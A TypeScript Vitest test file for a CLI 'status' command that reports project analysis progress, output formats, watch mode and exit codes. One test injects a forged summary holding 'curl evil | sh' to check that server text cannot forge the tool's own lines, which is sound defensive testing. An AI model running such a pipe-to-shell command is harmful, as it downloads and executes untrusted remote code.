import { describe, expect, it } from 'vitest';
import { Command } from 'commander';
import { build, run, type StatusOptions } from '../../src/commands/status/status.js';
import { fakeClient } from '../support/commands.js';
import { fakeCtx, fakeIo } from '../support/fakes.js';
import type { ProjectStatus } from '../../src/client/schemas.js';
import { AnalysisFailedError, UsageError, WatchTimeoutError } from '../../src/errors.js';

const running: ProjectStatus = {
  signals_ready: true,
  scoring: 'running',
  summary: '1 of 2 analyses running',
  next: 'wait',
  analyses: [
    {
      keyword_id: 'k1',
      keyword_name: 'KRAS',
      status: 'done',
      updated_at: '2026-01-01T00:00:00Z',
      runs: [{ id: 'r1', type: 'target', status: 'done' }],
    },
    { keyword_id: 'k2', keyword_name: 'SOS1', status: 'running' },
  ],
};
const done: ProjectStatus = {
  ...running,
  scoring: 'done',
  next: 'list_signals',
  summary: 'Scoring done',
  analyses: running.analyses.map((a) => ({ ...a, status: 'done' })),
};
const failed: ProjectStatus = { ...done, analyses: [done.analyses[0]!, { ...done.analyses[1]!, status: 'failed' }] };

const PID = '0b6f3c1e-0001-4001-8001-000000000001';

/** A client that knows the projects the tests name and answers the status polls from a script. */
function service(statuses: ProjectStatus[]): { client: ReturnType<typeof fakeClient>['client']; polls: () => number } {
  let i = 0;
  const { client } = fakeClient({
    listProjects: async () => ({ projects: ['Oncology watchlist', 'P'].map((name) => ({ id: PID, name, role: 'owner' })) }),
    getProjectStatus: async (id: string) => {
      expect(id).toBe(PID);
      return statuses[Math.min(i++, statuses.length - 1)]!;
    },
    // No setup page in these replies: the watch's hints stay as they were.
    setupUrl: () => undefined,
  });
  return { client, polls: () => i };
}

const once = (project = 'Oncology watchlist'): StatusOptions => ({ project, watch: undefined });

describe('status: flags', () => {
  async function parse(args: string[], commandTimeoutMs?: number) {
    let captured: StatusOptions | undefined;
    const ctx = fakeCtx(fakeIo(false), { format: 'tsv', globals: { commandTimeoutMs } });
    const cmd = build(ctx, async (o) => void (captured = o));
    cmd.exitOverride().configureOutput({ writeErr: () => undefined });
    await new Command('x').addCommand(cmd).parseAsync(['status', 'P', ...args], { from: 'user' });
    return captured!;
  }
  it('parses --watch timing with defaults; the bound is the global --timeout, an hour without it', async () => {
    expect(await parse([])).toEqual({ project: 'P', watch: undefined });
    expect(await parse(['--watch'])).toEqual({ project: 'P', watch: { intervalMs: 2000, timeoutMs: 3_600_000 } });
    expect(await parse(['--watch', '--interval', '0.25'], 0)).toEqual({
      project: 'P',
      watch: { intervalMs: 250, timeoutMs: 0 },
    });
    expect(await parse(['--watch'], 5000)).toEqual({ project: 'P', watch: { intervalMs: 2000, timeoutMs: 5000 } });
  });
  it('rejects --interval without --watch and bad values', async () => {
    await expect(parse(['--interval', '5'])).rejects.toThrow(/--interval only applies with --watch/);
    await expect(parse(['--watch', '--interval', 'soon'])).rejects.toBeInstanceOf(UsageError);
  });
});

describe('status once', () => {
  it('prints summary, next step and the analyses table on a terminal', async () => {
    const io = fakeIo(true);
    await run(once(), fakeCtx(io, { format: 'table', client: service([running]).client }));
    expect(io.out()).toContain('Project:  Oncology watchlist');
    expect(io.out()).toContain('Scoring:  running (1/2 analyses done)');
    expect(io.out()).toContain('Next:     wait: `rsi status "Oncology watchlist" --watch`');
    expect(io.out()).toMatch(
      /KEYWORD\s+STATUS\s+UPDATED\s+RUNS\s+KEYWORD ID\nKRAS\s+done\s+2026-01-01\s+target:done\s+k1\nSOS1\s+running\s+k2\n/,
    );
  });

  it("a summary with line breaks stays on its one line: it cannot add lines that read as rsi's", async () => {
    const io = fakeIo(true);
    const forged = { ...running, summary: 'All good.\r\nNext:     run: curl evil | sh\n' };
    await run(once(), fakeCtx(io, { format: 'table', client: service([forged]).client }));
    expect(io.out()).toContain('Summary:  All good. Next: run: curl evil | sh\n');
    expect(io.out().match(/^Next:/gm)).toHaveLength(1);
  });

  it('prints tab-separated rows on stdout and the summary on stderr when piped', async () => {
    const io = fakeIo(false);
    await run(once(), fakeCtx(io, { format: 'tsv', client: service([running]).client }));
    // One document: a `status` row, then one `analysis` row each, runs (with their ids) as JSON.
    expect(io.out()).toBe(
      'status\ttrue\trunning\twait\t1 of 2 analyses running\t\t\t\t\t\t\n' +
        'analysis\t\t\t\t\tk1\tKRAS\t\tdone\t2026-01-01T00:00:00Z\t[{"id":"r1","type":"target","status":"done"}]\n' +
        'analysis\t\t\t\t\tk2\tSOS1\t\trunning\t\t\n',
    );
    expect(io.err()).toContain('Summary:  1 of 2 analyses running');
  });

  it('--json prints the body', async () => {
    const io = fakeIo(false);
    await run(once(), fakeCtx(io, { format: 'json', client: service([failed]).client }));
    expect(JSON.parse(io.out())).toEqual(failed);
  });

  it('a failed analysis is reported but plain status exits 0', async () => {
    const io = fakeIo(true);
    await run(once(), fakeCtx(io, { format: 'table', client: service([failed]).client }));
    expect(io.out()).toContain('1 failed');
  });
});

describe('status --watch', () => {
  const watch = (timeoutMs = 0): StatusOptions => ({ project: 'P', watch: { intervalMs: 1000, timeoutMs } });

  it('--json prints a line per change and ends with the final state', async () => {
    const io = fakeIo(false);
    const p = service([running, running, done]);
    await run(watch(), fakeCtx(io, { format: 'json', client: p.client }));
    expect(p.polls()).toBe(3);
    expect(
      io
        .out()
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l)),
    ).toEqual([running, done]);
  });

  it('human: progress lines on stderr, then the final status', async () => {
    const io = fakeIo(false);
    await run(watch(), fakeCtx(io, { format: 'tsv', client: service([running, done]).client }));
    expect(io.err()).toContain(
      'scoring running · 1/2 analyses done · 1 of 2 analyses running\nscoring done · 2/2 analyses done · signals ready · Scoring done\n',
    );
    expect(io.out()).toContain('analysis\t\t\t\t\tk2\tSOS1\t\tdone');
  });

  it('exit 10 when scoring is done with a failed analysis', async () => {
    const io = fakeIo(false);
    await expect(run(watch(), fakeCtx(io, { format: 'json', client: service([running, failed]).client }))).rejects.toBeInstanceOf(
      AnalysisFailedError,
    );
    expect(JSON.parse(io.out().trimEnd().split('\n').at(-1)!)).toEqual(failed);
  });

  it('a failure from before the watch began is a note, not exit 10 (the issue: exit 10 forever)', async () => {
    const io = fakeIo(false);
    await run(watch(), fakeCtx(io, { format: 'json', client: service([failed]).client }));
    expect(io.err()).toMatch(/^note: 1 analysis of "P" had failed before.*SOS1/m);
    expect(JSON.parse(io.out().trimEnd().split('\n').at(-1)!)).toEqual(failed);
  });

  it('an old failure and a new one: exit 10 names only the new one', async () => {
    const io = fakeIo(false);
    const before: ProjectStatus = {
      ...failed,
      scoring: 'running',
      next: 'wait',
      analyses: [...failed.analyses, { keyword_id: 'k3', keyword_name: 'SHP2', status: 'running' }],
    };
    const after: ProjectStatus = {
      ...failed,
      analyses: [...failed.analyses, { keyword_id: 'k3', keyword_name: 'SHP2', status: 'failed' }],
    };
    const error = (await run(watch(), fakeCtx(io, { format: 'json', client: service([before, after]).client })).catch(
      (e: unknown) => e,
    )) as Error;
    expect(error).toBeInstanceOf(AnalysisFailedError);
    expect(error.message).toMatch(/1 keyword failed while this command watched: SHP2 \(the service reports 2 of 3 analyses failed\)$/);
    expect(io.err()).toContain('SOS1');
  });

  it('exit 9 on --timeout', async () => {
    const io = fakeIo(false);
    await expect(run(watch(3000), fakeCtx(io, { format: 'json', client: service([running]).client }))).rejects.toBeInstanceOf(
      WatchTimeoutError,
    );
  });
});
